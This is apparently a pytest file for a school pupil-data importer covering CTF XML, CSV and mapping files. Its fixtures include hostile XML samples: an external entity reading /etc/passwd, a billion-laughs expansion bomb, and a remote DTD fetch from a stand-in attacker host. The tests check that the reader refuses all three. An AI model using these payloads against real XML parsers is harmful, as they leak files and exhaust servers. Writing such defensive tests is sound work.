"""Reading import files without a store: hostile and malformed XML refused by the CTF
reader (defusedxml), the CTF's SEN section read as it is ranked and dated, CSV dialects."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

import pytest

from api.imports.ctf import ctf_rows
from api.imports.mappings import CHRONICLE, MappingError, mapping_from
from api.imports.sources import SourceError, csv_rows
from tests.imports.fixtures import csv_bytes, ctf_bytes, pupils

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<CTfile><CTpupilData><Pupil><UPN>&secret;</UPN></Pupil></CTpupilData></CTfile>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<CTfile><CTpupilData><Pupil><Surname>&lol9;</Surname></Pupil></CTpupilData></CTfile>"""

EXTERNAL_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<CTfile/>"""


@pytest.mark.parametrize(
    "hostile",
    [EXTERNAL_ENTITY, BILLION_LAUGHS, EXTERNAL_PARAMETER],
    ids=["external-entity", "billion-laughs", "external-parameter-entity"],
)
def test_hostile_xml_is_refused_before_anything_is_read(hostile: bytes) -> None:
    with pytest.raises(SourceError, match="entities or external references") as refused:
        ctf_rows(hostile)
    assert "passwd" not in str(refused.value) and "lol" not in str(refused.value)


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"<CTfile><CTpupilData><Pupil>", "not well-formed"),
        (b"<Other/>", "not <CTfile>"),
        (b"", "not well-formed"),
    ],
)
def test_malformed_ctf_files_are_refused(data: bytes, said: str) -> None:
    with pytest.raises(SourceError, match=said):
        ctf_rows(data)


def test_the_ctf_sen_section_gives_the_open_provision_and_needs_by_rank() -> None:
    (p,) = pupils(1)
    p = replace(p, provision="K", needs=("SLCN", "HI"), sen_start=date(2023, 9, 5))
    (row,) = ctf_rows(ctf_bytes([p]))[0]
    got = {name: value for name, (_, value) in row.fields.items()}
    assert got["sen_provision"] == "K"  # the ended K of 2015-16 is history, not this one
    assert got["sen_start_date"] == "2023-09-05"
    assert (got["primary_need"], got["secondary_need"]) == ("SLCN", "HI")
    assert got["academy"] == "873/2041" and got["upn"] == p.upn
    assert row.line == 1


def test_a_ctf_without_sen_history_says_nothing_of_sen() -> None:
    (row,) = ctf_rows(ctf_bytes(pupils(1)))[0]
    assert "sen_provision" not in row.fields


def test_csv_lines_are_the_files_own_line_numbers_blank_lines_skipped() -> None:
    data = csv_bytes(pupils(3), CHRONICLE).replace(b"\r\n", b"\r\n\r\n", 1)
    rows, _ = csv_rows(data, CHRONICLE)
    assert [r.line for r in rows] == [3, 4, 5]


def test_a_mapping_file_must_name_the_required_columns() -> None:
    with pytest.raises(MappingError, match="must name a header for"):
        mapping_from({"columns": {"upn": "UPN"}}, "ours.toml")
    with pytest.raises(MappingError, match="unknown field"):
        mapping_from({"columns": {"upn": "UPN", "shoe_size": "Shoe"}}, "ours.toml")


def test_a_wrong_check_letter_is_reported_without_the_letter_the_digits_call_for() -> None:
    from api.imports.rows import _without_value
    from domain.errors import InvalidUPN
    from domain.values import validate_upn

    try:
        validate_upn("A873204100001")
    except InvalidUPN as e:
        said = _without_value(str(e))
    assert "wrong check letter" in said and "873204100001" not in said
    assert "should start with" not in said
